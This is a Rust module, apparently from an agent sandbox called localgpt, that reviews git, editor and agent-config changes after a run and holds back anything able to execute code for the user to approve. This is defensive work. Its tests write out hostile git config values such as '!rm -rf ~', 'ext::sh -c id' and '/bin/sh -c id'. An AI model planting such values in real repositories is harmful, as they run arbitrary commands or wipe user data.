//! Review of what a command changed in the protected workspace paths (pure).
//!
//! At Full level the command writes to private copies of `.git`, `.vscode`, `.idea`, the agent's
//! config and the `core.hooksPath` directory; nothing reaches the real files during the run.
//! Afterwards the runner goes through the changes and asks this module what each one is:
//!
//! * in `.git`, objects, refs, the index, `HEAD` and the rest of git's own state are applied as
//!   they are; a config file (`config`, `config.worktree`, a submodule's or worktree's) is
//!   compared key by key ([`diff_config`]): a change to a key that can make git run a program or
//!   read configuration elsewhere ([`executable_key`], the data file
//!   `data/git-executable-keys.toml`, each entry with its source) is kept aside as a *pending*
//!   change, every other key change is applied; a new or changed hook (other than git's inert
//!   `*.sample` files) and a redirection file (`commondir`, `gitdir`, `objects/info/alternates`,
//!   `info/attributes`) are pending; lock files are dropped;
//! * in the other protected paths (`.vscode`, `.idea`, the agent's config, the hooks directory)
//!   every change is pending: their files run code (tasks, settings, hooks).
//!
//! A pending change is applied only by the user (`localgpt sandbox pending apply ID`).

use std::path::{Component, Path};
use std::sync::OnceLock;

use serde::{Deserialize, Serialize};

use crate::guard::gitconfig;

/// One entry of `data/git-executable-keys.toml`.
#[derive(Deserialize, Serialize, Clone, Debug, PartialEq, Eq)]
pub struct ExecKey {
    /// `section.key`, `section.*.key` (any subsection) or `section.*` (any key).
    pub key: String,
    /// Only values starting with this (`!` for aliases).
    #[serde(default)]
    pub value_prefix: Option<String>,
    /// Why it matters.
    pub reason: String,
    /// Where that is documented.
    pub source: String,
}

#[derive(Deserialize)]
struct ExecKeyFile {
    key: Vec<ExecKey>,
}

/// The executable-key table (parsed once from the data file compiled into the binary).
#[must_use]
pub fn exec_keys() -> &'static [ExecKey] {
    static KEYS: OnceLock<Vec<ExecKey>> = OnceLock::new();
    KEYS.get_or_init(|| {
        toml::from_str::<ExecKeyFile>(include_str!("../../data/git-executable-keys.toml")).map(|f| f.key).unwrap_or_default()
    })
}

/// The table entry that makes `section[.subsection].key = value` executable, if any.
#[must_use]
pub fn executable_key(section: &str, subsection: Option<&str>, key: &str, value: Option<&str>) -> Option<&'static ExecKey> {
    let (section, key) = (section.to_ascii_lowercase(), key.to_ascii_lowercase());
    exec_keys().iter().find(|e| {
        let parts: Vec<&str> = e.key.split('.').collect();
        let name_ok = match (parts.as_slice(), subsection) {
            ([s, k], None) => *s == section && (*k == "*" || *k == key),
            ([s, "*", k], Some(_)) => *s == section && (*k == "*" || *k == key),
            _ => false,
        };
        name_ok && e.value_prefix.as_deref().is_none_or(|p| value.is_some_and(|v| v.trim_start().starts_with(p)))
    })
}

/// One entry of `data/git-safe-keys.toml`: a key whose change the review applies by itself.
#[derive(Deserialize, Clone, Debug, PartialEq, Eq)]
pub struct SafeKey {
    /// `section.key`, `section.*.key` (any subsection) or `section.*` (any key).
    pub key: String,
    /// Which values are harmless (`any`, `bool`, `int`, `word`, `url`, `alias`, `ref`).
    #[serde(default)]
    pub values: Option<String>,
    /// Or: exactly these values (compared without regard to ASCII case).
    #[serde(default)]
    pub one_of: Option<Vec<String>>,
}

#[derive(Deserialize)]
struct SafeKeyFile {
    key: Vec<SafeKey>,
}

/// The safe-key table (parsed once from the data file compiled into the binary).
#[must_use]
pub fn safe_keys() -> &'static [SafeKey] {
    static KEYS: OnceLock<Vec<SafeKey>> = OnceLock::new();
    KEYS.get_or_init(|| toml::from_str::<SafeKeyFile>(include_str!("../../data/git-safe-keys.toml")).map(|f| f.key).unwrap_or_default())
}

fn key_matches(pattern: &str, section: &str, subsection: Option<&str>, key: &str) -> bool {
    let parts: Vec<&str> = pattern.split('.').collect();
    match (parts.as_slice(), subsection) {
        ([s, k], None) => *s == section && (*k == "*" || *k == key),
        ([s, "*", k], Some(_)) => *s == section && (*k == "*" || *k == key),
        _ => false,
    }
}

/// A URL or path git fetches from without running a command of the value's choosing.
fn harmless_url(v: &str) -> bool {
    if v.is_empty() || v.starts_with('-') || v.contains("::") || v.chars().any(char::is_control) {
        return false;
    }
    match v.split_once("://") {
        // A scheme of git's own transports; the host part may not start with an option.
        Some((scheme, rest)) => {
            ["https", "http", "ssh", "git", "file", "git+ssh", "ssh+git"].contains(&scheme.to_ascii_lowercase().as_str())
                && !rest.starts_with('-')
                && !rest.split('/').next().unwrap_or("").split('@').any(|h| h.starts_with('-'))
        }
        // A path, or scp-like `[user@]host:path`: not an option.
        None => !v.split(':').next().unwrap_or("").split('@').any(|h| h.starts_with('-')),
    }
}

/// The value rule of a safe key holds for `v`.
fn value_ok(rule: &SafeKey, v: Option<&str>) -> bool {
    if let Some(list) = &rule.one_of {
        return match v {
            None => list.iter().any(|x| x == "true"),
            Some(v) => list.iter().any(|x| x.eq_ignore_ascii_case(v.trim())),
        };
    }
    let word = |v: &str| !v.is_empty() && !v.starts_with('-') && v.bytes().all(|b| b.is_ascii_alphanumeric() || b"-_.:+/".contains(&b));
    match (rule.values.as_deref(), v) {
        (Some("any"), _) => true,
        (Some("bool"), None) => true,
        (Some("bool"), Some(v)) => ["true", "false", "yes", "no", "on", "off", "1", "0", ""].contains(&v.trim().to_ascii_lowercase().as_str()),
        (Some("int"), Some(v)) => {
            let v = v.trim();
            let digits = v.strip_prefix('-').unwrap_or(v).trim_end_matches(['k', 'K', 'm', 'M', 'g', 'G']);
            !digits.is_empty() && digits.bytes().all(|b| b.is_ascii_digit())
        }
        (Some("word"), Some(v)) => word(v.trim()),
        (Some("url"), Some(v)) => harmless_url(v.trim()),
        (Some("ref"), Some(v)) => !v.trim().starts_with('-') && !v.chars().any(char::is_control),
        (Some("alias"), Some(v)) => !v.trim_start().starts_with(['!', '-']) && !v.trim().is_empty(),
        _ => false,
    }
}

/// Why a change of `section[.subsection].key` between `values` (the old and new ones) is not
/// applied by the review, when it is not: the key is not on the safe list (default-deny), or a
/// value is not one its rule allows. The reason names the executable-key table's entry when one
/// matches.
#[must_use]
pub fn unsafe_reason(section: &str, subsection: Option<&str>, key: &str, values: &[Option<String>]) -> Option<String> {
    let (section, key) = (section.to_ascii_lowercase(), key.to_ascii_lowercase());
    let rule = safe_keys().iter().find(|r| key_matches(&r.key, &section, subsection, &key));
    if rule.is_some_and(|r| values.iter().all(|v| value_ok(r, v.as_deref()))) {
        return None;
    }
    if let Some(e) = values.iter().find_map(|v| executable_key(&section, subsection, &key, v.as_deref())) {
        return Some(e.reason.clone());
    }
    Some(match rule {
        Some(_) => "a value the review does not know to be harmless for this key".into(),
        None => "a key not on the review's list of keys known to be harmless (data/git-safe-keys.toml)".into(),
    })
}

/// What a path inside a git directory is, for the review.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum GitPathClass {
    /// A config file: compared key by key.
    Config,
    /// A hook (not a `*.sample`): pending.
    Hook,
    /// One of git's inert `hooks/*.sample` files: created (`git init`) or removed, applied; an
    /// existing one changed, pending (its header says to enable it by renaming it).
    Sample,
    /// A file that redirects git elsewhere: pending.
    Redirect,
    /// A linked worktree's `worktrees/<name>/commondir`: applied only when it names the git
    /// directory it lies in (`../..`, what `git worktree add` writes), else a redirection.
    WorktreeCommondir,
    /// A linked worktree's `worktrees/<name>/gitdir`: the worktree's `.git` file, which git reads
    /// nothing from (`git worktree list` and `prune` use it to find the worktree); applied only
    /// when it names a `.git` in a writable directory of the run ([`worktree_gitdir_target`]).
    WorktreeGitdir,
    /// A lock file left by an interrupted git command: dropped.
    Lock,
    /// A rebase or sequencer to-do list: applied only when every line is one git runs no
    /// command for ([`todo_is_plain`]).
    Todo,
    /// Git's own data (objects, refs, the index, HEAD and the other `*_HEAD` files, logs, the
    /// state of an interrupted rebase, merge or bisect): applied.
    Plain,
    /// Not on the list of git's own data files (default-deny): pending.
    Unknown,
}

impl GitPathClass {
    /// How much a class holds back, to combine the readings of an ambiguous path.
    fn weight(self) -> u8 {
        match self {
            GitPathClass::Plain => 0,
            GitPathClass::Lock => 1,
            GitPathClass::Config => 2,
            GitPathClass::Sample => 3,
            GitPathClass::Todo => 4,
            GitPathClass::Unknown => 5,
            GitPathClass::Redirect | GitPathClass::WorktreeCommondir | GitPathClass::WorktreeGitdir => 6,
            GitPathClass::Hook => 7,
        }
    }
}

/// Top-level files of a git directory (or of a worktree's) that are git's own data.
const GIT_DATA_FILES: &[&str] = &[
    "HEAD", "index", "packed-refs", "shallow", "description", "COMMIT_EDITMSG", "MERGE_MSG", "MERGE_MODE", "MERGE_RR", "SQUASH_MSG", "TAG_EDITMSG",
    "NOTES_EDITMSG", "EDIT_DESCRIPTION", "AUTO_MERGE", "MERGE_AUTOSTASH", "BISECT_LOG", "BISECT_TERMS", "BISECT_START", "BISECT_EXPECTED_REV",
    "BISECT_ANCESTORS_OK", "BISECT_NAMES", "BISECT_FIRST_PARENT", "NOTES_MERGE_PARTIAL", "NOTES_MERGE_REF", "gitk.cache", "gc.pid", "gc.log", "locked",
    "FETCH_HEAD", "ORIG_HEAD",
];

/// Directories of a git directory whose whole content is git's data.
const GIT_DATA_DIRS: &[&str] = &["refs", "logs", "reftable", "rr-cache", "lfs", "NOTES_MERGE_WORKTREE"];

/// Files of `rebase-merge/` that are state, not commands (the to-do lists are [`GitPathClass::Todo`];
/// `strategy` and `strategy_opts` name merge programs: not here).
const REBASE_MERGE_DATA: &[&str] = &[
    "done", "msgnum", "end", "head-name", "onto", "orig-head", "interactive", "quiet", "verbose", "allow_rerere_autoupdate", "gpg_sign_opt", "signoff",
    "autostash", "rewritten-list", "rewritten-pending", "message", "author-script", "amend", "stopped-sha", "current-fixups", "patch",
    "drop_redundant_commits", "keep_redundant_commits", "reschedule-failed-exec", "no-reschedule-failed-exec", "update-refs", "cdate_is_adate",
    "ignore_date", "committer-date-is-author-date", "squash-onto", "dropped",
];

/// Files of `rebase-apply/` (`git am`, the apply backend of rebase) other than the numbered patches.
const REBASE_APPLY_DATA: &[&str] = &[
    "next", "last", "info", "msg", "msg-clean", "patch", "final-commit", "keep", "messageid", "quoted-cr", "scissors", "threeway", "utf8", "quiet",
    "sign", "applying", "rebasing", "abort-safety", "original-commit", "orig-head", "head-name", "onto", "apply-opt", "autostash", "dirtyindex",
    "author-script", "rewritten", "no_inbody_headers", "patch-merge-index", "patch-format", "keepcr",
];

/// A `*_HEAD` file (FETCH_HEAD, MERGE_HEAD, CHERRY_PICK_HEAD, REVERT_HEAD, REBASE_HEAD, …).
fn head_file(n: &str) -> bool {
    n.strip_suffix("_HEAD").is_some_and(|p| !p.is_empty() && p.bytes().all(|b| b.is_ascii_uppercase() || b == b'_'))
}

/// The class of `names`, a path inside one git directory (no submodule or worktree prefix).
fn gitdir_entry(names: &[&str]) -> GitPathClass {
    use GitPathClass::{Config, Hook, Plain, Redirect, Sample, Todo, Unknown};
    let Some((&first, rest)) = names.split_first() else { return Plain };
    match (first, rest) {
        ("objects", ["info", "alternates" | "http-alternates"]) => Redirect,
        ("objects", _) => Plain,
        (d, _) if GIT_DATA_DIRS.contains(&d) => Plain,
        // A hooks directory itself (replaced, or made a link) or anything in it but git's inert
        // samples.
        ("hooks", [.., last]) if last.ends_with(".sample") => Sample,
        ("hooks", _) => Hook,
        ("info", [] | ["exclude" | "refs" | "sparse-checkout" | "grafts"]) => Plain,
        ("info", ["attributes"]) => Redirect,
        ("rebase-merge", ["git-rebase-todo" | "git-rebase-todo.backup"]) | ("sequencer", ["todo"]) => Todo,
        ("rebase-merge", []) | ("rebase-apply", []) | ("sequencer", [] | ["done" | "head" | "abort-safety"]) => Plain,
        ("rebase-merge", [n]) if REBASE_MERGE_DATA.contains(n) => Plain,
        ("rebase-apply", [n]) if REBASE_APPLY_DATA.contains(n) || (n.len() >= 4 && n.bytes().all(|b| b.is_ascii_digit())) => Plain,
        // Legacy remote definitions (`.git/remotes/<name>`, `.git/branches/<name>`).
        ("remotes" | "branches", []) => Plain,
        ("remotes" | "branches", _) => Redirect,
        ("config" | "config.worktree", []) => Config,
        ("commondir" | "gitdir", []) => Redirect,
        (n, []) if GIT_DATA_FILES.contains(&n) || head_file(n) || n.starts_with("sharedindex.") => Plain,
        _ => Unknown,
    }
}

/// Classifies `names`, a path relative to a git directory, where a submodule's git directory
/// (`modules/<name>`, whose name may hold slashes) is any prefix `is_gitdir` says is one.
fn classify_names(names: &[&str], is_gitdir: &dyn Fn(&[&str]) -> bool, prefix: usize) -> GitPathClass {
    let here = &names[prefix..];
    match here {
        ["modules"] => GitPathClass::Plain,
        ["modules", ..] => {
            // Every way of reading the path counts (a submodule named `x/refs` has its hooks in
            // `modules/x/refs/hooks`): the one that holds back most decides. A path in no
            // submodule's git directory is not git's.
            let mut class: Option<GitPathClass> = None;
            for k in prefix + 2..=names.len() {
                if is_gitdir(&names[..k]) {
                    let c = classify_names(names, is_gitdir, k);
                    class = Some(class.map_or(c, |o| if c.weight() > o.weight() { c } else { o }));
                }
            }
            class.unwrap_or(if here.len() == 2 { GitPathClass::Plain } else { GitPathClass::Unknown })
        }
        ["worktrees"] | ["worktrees", _] => GitPathClass::Plain,
        ["worktrees", _, "commondir"] => GitPathClass::WorktreeCommondir,
        ["worktrees", _, "gitdir"] => GitPathClass::WorktreeGitdir,
        ["worktrees", _, ..] => classify_names(names, is_gitdir, prefix + 2),
        // A directory among git's data (`refs/x`) that git discovers as a repository (a `HEAD`
        // beside `objects/` and `refs/`): git run in it reads its `config` and runs its hooks,
        // so nothing in it is data. (A branch named `x/HEAD` makes one too: pending, said why.)
        [d, ..] if (GIT_DATA_DIRS.contains(d) || *d == "objects") && (prefix + 2..names.len()).any(|k| is_gitdir(&names[..k])) => GitPathClass::Unknown,
        _ => gitdir_entry(here),
    }
}

/// Classifies `rel`, a path relative to a `.git` directory, by default-deny: only git's own
/// data files are [`GitPathClass::Plain`]. Submodule (`modules/…`) and worktree (`worktrees/…`)
/// git directories are treated like the top one; a submodule's git directory is any
/// `modules/…` prefix that `is_gitdir` (given the prefix's path relative to the `.git`
/// directory) says holds a `HEAD`.
#[must_use]
pub fn classify_git_path_in(rel: &Path, is_gitdir: &dyn Fn(&Path) -> bool) -> GitPathClass {
    let owned: Vec<String> = rel.components().filter_map(|c| match c {
        Component::Normal(n) => Some(n.to_string_lossy().into_owned()),
        _ => None,
    }).collect();
    let names: Vec<&str> = owned.iter().map(String::as_str).collect();
    let Some(last) = names.last() else { return GitPathClass::Plain };
    if last.ends_with(".lock") {
        return GitPathClass::Lock;
    }
    classify_names(&names, &|p: &[&str]| is_gitdir(&p.iter().collect::<std::path::PathBuf>()), 0)
}

/// [`classify_git_path_in`] with every submodule named by one path component (where no
/// directory can be looked at; no directory among git's data is taken for a repository).
#[must_use]
pub fn classify_git_path(rel: &Path) -> GitPathClass {
    classify_git_path_in(rel, &|p| p.components().count() == 2 && p.starts_with("modules"))
}

/// The commands of a rebase or sequencer to-do list that run no program.
const TODO_PLAIN: &[&str] = &[
    "pick", "p", "reword", "r", "edit", "e", "squash", "s", "fixup", "f", "drop", "d", "label", "l", "reset", "t", "merge", "m", "update-ref", "u",
    "break", "b", "noop",
];

/// A rebase or sequencer to-do list whose every line is proven to run no program
/// (default-deny): empty, a `#` comment, or a command of `TODO_PLAIN` followed by a space, a
/// tab or nothing, after leading spaces and tabs. Lines are split on `\n` alone, as git does;
/// anything else (an `exec`/`x` line, a command written in a way this does not know, bytes that
/// are not UTF-8) is not proven.
#[must_use]
pub fn todo_is_plain(text: &[u8]) -> bool {
    let Ok(text) = std::str::from_utf8(text) else { return false };
    text.split('\n').all(|line| {
        let l = line.trim_start_matches([' ', '\t']);
        let l = l.strip_suffix('\r').unwrap_or(l);
        if l.is_empty() || l.starts_with('#') {
            return true;
        }
        let word = l.split([' ', '\t']).next().unwrap_or("");
        TODO_PLAIN.contains(&word)
    })
}

/// A rebase or sequencer to-do list holds a command to run (`exec`/`x` lines), or a line that
/// cannot be proven not to ([`todo_is_plain`]).
#[must_use]
pub fn todo_runs_commands(text: &str) -> bool {
    !todo_is_plain(text.as_bytes())
}

/// What to do with one changed path of a `.git` directory.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Verdict {
    /// Git's own state: keep the command's version.
    Accept,
    /// Could run code or redirect git: keep it aside as a pending change (the reason).
    Pending(&'static str),
    /// A config file: split its key changes ([`diff_config`]).
    Config,
    /// A lock file: neither applied nor kept.
    Drop,
}

/// Why a redirection file is pending.
const REDIRECT_WHY: &str = "a git redirection file (commondir, gitdir, alternates, info/attributes, remotes): it changes where git reads from";

/// The worktree a linked worktree's `gitdir` file names, when it is what `git worktree add`
/// writes: one line, an absolute path of a `.git` with no `.` or `..` component and no control
/// character. The caller checks where it is.
#[must_use]
pub fn worktree_gitdir_target(text: &[u8]) -> Option<std::path::PathBuf> {
    let t = std::str::from_utf8(text).ok()?;
    let t = t.strip_suffix('\n').unwrap_or(t);
    let p = Path::new(t);
    // Written out as git writes it: no `.`, `..` or empty segment (which `components` would
    // pass over).
    let plain = t.split('/').skip(1).all(|seg| !seg.is_empty() && seg != "." && seg != "..");
    (p.is_absolute() && plain && p.file_name().is_some_and(|n| n == ".git") && !t.chars().any(char::is_control)).then(|| p.to_path_buf())
}

/// The verdict on a change to a path of class `class` in a `.git` directory: `link` when the
/// new version is a symbolic link, `deleted` when the path is gone, `existed` when it was there
/// at launch, `text` the new content of a to-do list.
#[must_use]
pub fn verdict_for(class: GitPathClass, link: bool, deleted: bool, existed: bool, text: Option<&[u8]>) -> Verdict {
    if class == GitPathClass::Lock {
        return Verdict::Drop;
    }
    if link {
        // git makes no symbolic links in its directory: one could lead a hooks, modules or
        // objects directory anywhere.
        return Verdict::Pending("a symbolic link in .git (it can lead git anywhere)");
    }
    match class {
        GitPathClass::Plain | GitPathClass::Lock => Verdict::Accept,
        GitPathClass::Sample if deleted || !existed => Verdict::Accept,
        GitPathClass::Sample => Verdict::Pending("a changed git sample hook: inert until renamed without .sample, as its header tells the user to do"),
        GitPathClass::Config if deleted => Verdict::Pending("a git config file was removed"),
        GitPathClass::Config => Verdict::Config,
        // Removing a to-do list runs nothing (git does it at the end of every rebase). Removing
        // a hook runs nothing either, but can switch off a guard the user relies on (a secret
        // scanner, a commit-message check): the user decides, as on macOS, where the profile
        // refuses it.
        GitPathClass::Todo if deleted => Verdict::Accept,
        GitPathClass::Hook if deleted => Verdict::Pending("a git hook was removed (it may be a guard, such as a secret scanner)"),
        GitPathClass::Hook => Verdict::Pending("a git hook: it runs on the next git command outside the sandbox"),
        GitPathClass::Todo if text.is_some_and(todo_is_plain) => Verdict::Accept,
        GitPathClass::Todo => Verdict::Pending("a rebase to-do list with a line that is not a plain pick, reword, edit, squash, fixup, drop, label, reset, merge, update-ref or break (an exec line runs on `git rebase --continue`)"),
        GitPathClass::Redirect => Verdict::Pending(REDIRECT_WHY),
        // Removing either ends the worktree's link (git worktree remove, prune): nothing runs.
        GitPathClass::WorktreeCommondir | GitPathClass::WorktreeGitdir if deleted => Verdict::Accept,
        GitPathClass::WorktreeCommondir if text.is_some_and(|t| t == b"../..\n" || t == b"../..") => Verdict::Accept,
        GitPathClass::WorktreeCommondir => Verdict::Pending(REDIRECT_WHY),
        // The caller, who knows the run's writable directories, accepts one that names a `.git`
        // in them ([`worktree_gitdir_target`]).
        GitPathClass::WorktreeGitdir => Verdict::Pending("a linked worktree's gitdir file naming no .git in a writable directory of the run"),
        // Removing a file git does not know runs nothing.
        GitPathClass::Unknown if deleted => Verdict::Accept,
        GitPathClass::Unknown => Verdict::Pending("not one of git's own data files (the review applies only those by itself)"),
    }
}

/// The verdict on a change to `rel` (relative to a `.git` directory, submodules named by one
/// component): [`verdict_for`] its [`classify_git_path`].
#[must_use]
pub fn git_verdict(rel: &Path, link: bool, deleted: bool, existed: bool, text: Option<&[u8]>) -> Verdict {
    verdict_for(classify_git_path(rel), link, deleted, existed, text)
}

/// One key whose values differ between two versions of a config file.
#[derive(Serialize, Deserialize, Clone, Debug, PartialEq, Eq)]
pub struct KeyChange {
    /// Section, lower-cased.
    pub section: String,
    /// Subsection, as written.
    pub subsection: Option<String>,
    /// Key, lower-cased.
    pub key: String,
    /// Values before (in order; `None` is a bare key).
    pub old: Vec<Option<String>>,
    /// Values after.
    pub new: Vec<Option<String>>,
    /// Why it can run code or redirect git, when it can (then it is not applied).
    pub executable: Option<String>,
}

impl KeyChange {
    /// `section[.subsection].key`.
    #[must_use]
    pub fn name(&self) -> String {
        match &self.subsection {
            Some(s) => format!("{}.{s}.{}", self.section, self.key),
            None => format!("{}.{}", self.section, self.key),
        }
    }
}

type KeyId = (String, Option<String>, String);

fn values_by_key(c: &gitconfig::ConfigFile) -> Vec<(KeyId, Vec<Option<String>>)> {
    let mut v: Vec<(KeyId, Vec<Option<String>>)> = Vec::new();
    for e in &c.entries {
        let id = (e.section.clone(), e.subsection.clone(), e.key.clone());
        match v.iter_mut().find(|(k, _)| *k == id) {
            Some((_, vals)) => vals.push(e.value.clone()),
            None => v.push((id, vec![e.value.clone()])),
        }
    }
    v
}

/// The keys whose values differ between `old` and `new`, each marked executable or not (a key
/// is executable when any of its old or new values is).
///
/// # Errors
/// A message when either text is not a valid config file.
pub fn diff_config(old: &str, new: &str) -> Result<Vec<KeyChange>, String> {
    let o = gitconfig::parse(old).map_err(|e| format!("config before the run: {e}"))?;
    let n = gitconfig::parse(new).map_err(|e| format!("config after the run: {e}"))?;
    let (ov, nv) = (values_by_key(&o), values_by_key(&n));
    let mut ids: Vec<KeyId> = ov.iter().map(|(k, _)| k.clone()).collect();
    for (k, _) in &nv {
        if !ids.contains(k) {
            ids.push(k.clone());
        }
    }
    let get = |v: &[(KeyId, Vec<Option<String>>)], id: &KeyId| v.iter().find(|(k, _)| k == id).map(|(_, x)| x.clone()).unwrap_or_default();
    let mut out = Vec::new();
    for id in ids {
        let (old_v, new_v) = (get(&ov, &id), get(&nv, &id));
        if old_v == new_v {
            continue;
        }
        let all: Vec<Option<String>> = old_v.iter().chain(&new_v).cloned().collect();
        let executable = unsafe_reason(&id.0, id.1.as_deref(), &id.2, &all);
        out.push(KeyChange { section: id.0, subsection: id.1, key: id.2, old: old_v, new: new_v, executable });
    }
    Ok(out)
}

/// Quotes a value for a config file (git's own quoting: `"` around values with leading or
/// trailing blanks or comment characters, escapes for `"`, `\`, newline and tab).
#[must_use]
pub fn quote_value(v: &str) -> String {
    let needs = v.starts_with([' ', '\t']) || v.ends_with([' ', '\t']) || v.contains(['#', ';']);
    let mut out = String::new();
    for c in v.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            '\n' => out.push_str("\\n"),
            '\t' => out.push_str("\\t"),
            c => out.push(c),
        }
    }
    if needs {
        format!("\"{out}\"")
    } else {
        out
    }
}

fn header(section: &str, subsection: Option<&str>) -> String {
    match subsection {
        Some(s) => format!("[{section} \"{}\"]\n", s.replace('\\', "\\\\").replace('"', "\\\"")),
        None => format!("[{section}]\n"),
    }
}

/// `text` with key `section[.subsection].key` set to exactly `values` (all its lines removed,
/// the values written in a new section block at the end; none: the key is gone).
///
/// # Errors
/// A message when `text` is not a valid config file.
pub fn set_key(text: &str, section: &str, subsection: Option<&str>, key: &str, values: &[Option<String>]) -> Result<String, String> {
    let c = gitconfig::parse(text).map_err(|e| e.to_string())?;
    let drop: Vec<(usize, usize)> = c
        .entries
        .iter()
        .filter(|e| e.section == section && e.subsection.as_deref() == subsection && e.key == key)
        .map(|e| (e.first_line, e.end_line))
        .collect();
    // A key on its header's line takes the header with it: put the header back.
    let mut out = String::new();
    for (i, line) in text.split_inclusive('\n').enumerate() {
        if drop.iter().any(|&(a, b)| (a..b).contains(&i)) {
            if let Some(s) = c.sections.iter().find(|s| s.first_line == i) {
                out.push_str(&header(&s.section, s.subsection.as_deref()));
            }
        } else {
            out.push_str(line);
        }
    }
    if !values.is_empty() {
        if !out.is_empty() && !out.ends_with('\n') {
            out.push('\n');
        }
        out.push_str(&header(section, subsection));
        for v in values {
            match v {
                Some(v) => out.push_str(&format!("\t{key} = {}\n", quote_value(v))),
                None => out.push_str(&format!("\t{key}\n")),
            }
        }
    }
    Ok(out)
}

/// The config to write after a run: the command's version with every executable change undone
/// (those keys back to their old values). Returns `new` itself when nothing is executable.
///
/// # Errors
/// A message when a text is not a valid config file.
pub fn safe_config(new: &str, changes: &[KeyChange]) -> Result<String, String> {
    let mut out = new.to_string();
    for c in changes.iter().filter(|c| c.executable.is_some()) {
        out = set_key(&out, &c.section, c.subsection.as_deref(), &c.key, &c.old)?;
    }
    Ok(out)
}

/// What the review does with a changed git config file ([`review_config`]).
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum ConfigOutcome {
    /// Write `text` (the command's version, with every change not proven harmless put back as
    /// it was; the command's bytes themselves when all are harmless), and keep `pending` aside.
    Split {
        /// The file to write.
        text: String,
        /// The changes applied.
        applied: Vec<KeyChange>,
        /// The changes kept as pending, each with why.
        pending: Vec<KeyChange>,
    },
    /// The whole file is pending: why (git cannot read it, or reads it differently from the
    /// review, or its keys cannot be separated).
    Whole(String),
}

/// The entries of a parsed config file as git lists them.
fn listed(c: &gitconfig::ConfigFile) -> crate::guard::gitoracle::ConfigList {
    c.entries.iter().map(|e| (e.name(), e.value.clone())).collect()
}

/// Parses `bytes` with this crate's parser and checks that git (`oracle`) reads exactly the same
/// keys and values.
fn agreed(bytes: &[u8], what: &str, oracle: &dyn Fn(&[u8]) -> Result<crate::guard::gitoracle::ConfigList, String>) -> Result<(String, gitconfig::ConfigFile), String> {
    let text = std::str::from_utf8(bytes).map_err(|_| format!("the config {what} is not UTF-8 text"))?;
    let ours = gitconfig::parse(text).map_err(|e| format!("the config {what} does not parse ({e})"))?;
    let git = oracle(bytes).map_err(|e| format!("git cannot read the config {what}: {e}"))?;
    if git != listed(&ours) {
        return Err(format!("git reads the config {what} differently from the review"));
    }
    Ok((text.to_string(), ours))
}

/// Reviews a git config file the command changed from `old` (`None`: there was none) to `new`:
/// both are read by this crate's parser *and* by git (`oracle`, [`crate::guard::gitoracle::config_list`]);
/// a file either cannot read, or that they read differently, is pending as a whole. Otherwise
/// each changed key is applied only when [`unsafe_reason`] finds nothing against it; the
/// others go back to their old values in the file written, which git must then read as exactly
/// that (else the whole file is pending).
#[must_use]
pub fn review_config(old: Option<&[u8]>, new: &[u8], oracle: &dyn Fn(&[u8]) -> Result<crate::guard::gitoracle::ConfigList, String>) -> ConfigOutcome {
    let old_text = match old {
        Some(o) => match agreed(o, "before the run", oracle) {
            Ok((t, _)) => t,
            Err(e) => return ConfigOutcome::Whole(e),
        },
        None => String::new(),
    };
    let new_text = match agreed(new, "after the run", oracle) {
        Ok((t, _)) => t,
        Err(e) => return ConfigOutcome::Whole(e),
    };
    let changes = match diff_config(&old_text, &new_text) {
        Ok(c) => c,
        Err(e) => return ConfigOutcome::Whole(e),
    };
    let (pending, applied): (Vec<KeyChange>, Vec<KeyChange>) = changes.iter().cloned().partition(|c| c.executable.is_some());
    if pending.is_empty() {
        return ConfigOutcome::Split { text: new_text, applied, pending };
    }
    if applied.is_empty() {
        return ConfigOutcome::Split { text: old_text, applied, pending };
    }
    let text = match safe_config(&new_text, &changes) {
        Ok(t) => t,
        Err(e) => return ConfigOutcome::Whole(format!("its keys cannot be separated ({e})")),
    };
    // What is written must read, for git too, as the old file plus exactly the applied changes.
    let check = agreed(text.as_bytes(), "to write", oracle).and_then(|_| diff_config(&old_text, &text));
    match check {
        Ok(after) if after == applied => ConfigOutcome::Split { text, applied, pending },
        Ok(_) => ConfigOutcome::Whole("its keys cannot be separated (the file without the pending keys does not read as intended)".into()),
        Err(e) => ConfigOutcome::Whole(format!("its keys cannot be separated ({e})")),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::path::PathBuf;

    #[test]
    fn the_data_file_parses_and_every_entry_has_a_source() {
        let k = exec_keys();
        assert!(k.len() >= 40, "{}", k.len());
        assert!(k.iter().all(|e| !e.reason.is_empty() && !e.source.is_empty()));
        assert!(k.iter().all(|e| e.key == e.key.to_ascii_lowercase() && (2..=3).contains(&e.key.split('.').count())), "{k:?}");
    }

    #[test]
    fn executable_keys() {
        assert!(executable_key("core", None, "fsmonitor", Some("/bin/sh -c id")).is_some());
        assert!(executable_key("core", None, "hooksPath", Some(".husky")).is_some());
        assert!(executable_key("filter", Some("lfs"), "smudge", Some("x")).is_some());
        assert!(executable_key("credential", None, "helper", Some("store")).is_some());
        assert!(executable_key("credential", Some("https://x"), "helper", Some("store")).is_some());
        assert!(executable_key("alias", None, "pwn", Some("!sh -c id")).is_some());
        assert!(executable_key("alias", None, "st", Some("status")).is_none());
        assert!(executable_key("include", None, "path", Some("../x")).is_some());
        assert!(executable_key("includeIf", Some("gitdir:/x/"), "path", Some("y")).is_some());
        assert!(executable_key("submodule", Some("lib"), "update", Some("!rm -rf ~")).is_some());
        assert!(executable_key("submodule", Some("lib"), "update", Some("rebase")).is_none());
        // The ext transport runs its URL as a command once a protocol key allows it.
        assert!(executable_key("protocol", Some("ext"), "allow", Some("always")).is_some());
        assert!(executable_key("protocol", None, "allow", Some("always")).is_some());
        assert!(executable_key("remote", Some("origin"), "url", Some("ext::sh -c id")).is_some());
        assert!(executable_key("remote", Some("origin"), "pushUrl", Some("ext::sh -c id")).is_some());
        assert!(executable_key("url", Some("ext::sh -c id"), "insteadOf", Some("https://x/")).is_some());
        assert!(executable_key("submodule", Some("lib"), "url", Some("ext::sh -c id")).is_some());
        assert!(executable_key("submodule", Some("lib"), "url", Some("../lib.git")).is_none());
        assert!(executable_key("init", None, "templateDir", Some("./tpl")).is_some());
        assert!(executable_key("guitool", Some("x"), "cmd", Some("id")).is_some());
        assert!(executable_key("remote", Some("origin"), "url", Some("https://example.com/x.git")).is_none());
        for (s, sub, k) in [("user", None, "name"), ("branch", Some("main"), "remote"), ("remote", Some("o"), "url"), ("core", None, "bare"), ("init", None, "defaultbranch")] {
